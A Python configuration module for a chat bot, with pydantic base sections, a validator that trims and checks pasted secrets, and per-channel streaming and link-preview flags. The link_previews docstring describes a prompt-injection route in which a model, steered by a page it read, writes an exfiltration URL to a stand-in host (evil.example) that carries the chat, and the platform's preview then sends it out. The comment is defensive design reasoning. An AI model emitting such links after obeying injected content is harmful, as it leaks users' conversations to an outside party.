"""The base of every configuration section, shared with channel packages' settings."""

from __future__ import annotations

import re
from typing import Any, ClassVar

from pydantic import BaseModel, ConfigDict, SecretStr, ValidationInfo, field_validator

# A credential is one word: a space, tab or line break inside it is a paste gone wrong.
_INNER_SPACE = re.compile(r"[\s\x00-\x1f\x7f]")
_CREDENTIAL_NAMES = ("token", "key", "secret")


class Section(BaseModel):
    """A ``[section]`` of bot.toml: unknown keys are errors, defaults are validated too.

    An empty list or dict default is written ``Field(default=[])``: pydantic copies a
    mutable default for each model, and ``default_factory=list`` made it parse the
    builtin's text signature at class creation (milliseconds of every start-up).
    """

    model_config = ConfigDict(extra="forbid", validate_default=True)
    # Keys still accepted but ignored, each with what replaced it (bot.config.deprecated):
    # a config an earlier `bot init` wrote keeps loading, and says so at start-up.
    DEPRECATED: ClassVar[dict[str, str]] = {}

    @field_validator("*", mode="before")
    @classmethod
    def _trimmed_secret(cls, value: Any, info: ValidationInfo) -> Any:
        """A secret read from a file or a Kubernetes secret ends in a line break: kept,
        it went into an HTTP header (a traceback, every channel down) or was refused by
        the platform with no hint why. Surrounding whitespace is dropped at load; a
        token, key or secret with a space or line break inside is refused, named."""
        name = info.field_name or ""
        field = cls.model_fields.get(name)
        if not isinstance(value, str) or field is None or field.annotation is not SecretStr:
            return value
        value = value.strip()
        if name.endswith(_CREDENTIAL_NAMES) and _INNER_SPACE.search(value):
            raise ValueError(
                "has a space or line break inside; a token or key is one unbroken word"
                " (copy it again)"
            )
        return value


class ChannelSection(Section):
    """The base of every ``[channels.<name>]`` section: the keys all platforms share.

    ``streaming = false`` turns streamed previews off for that platform: its chats get
    the final answer only, as one message (or several past the length limit).

    ``link_previews = true`` lets the platform preview, embed or unfurl the links in the
    bot's messages (each adapter says how). Off by default: the platform's
    servers fetch such a link as soon as it is posted, with no one clicking, so a model
    steered by a page it read into writing ``https://evil.example/?d=<the chat>`` would
    leak the chat on its own.
    """

    streaming: bool = True
    link_previews: bool = False
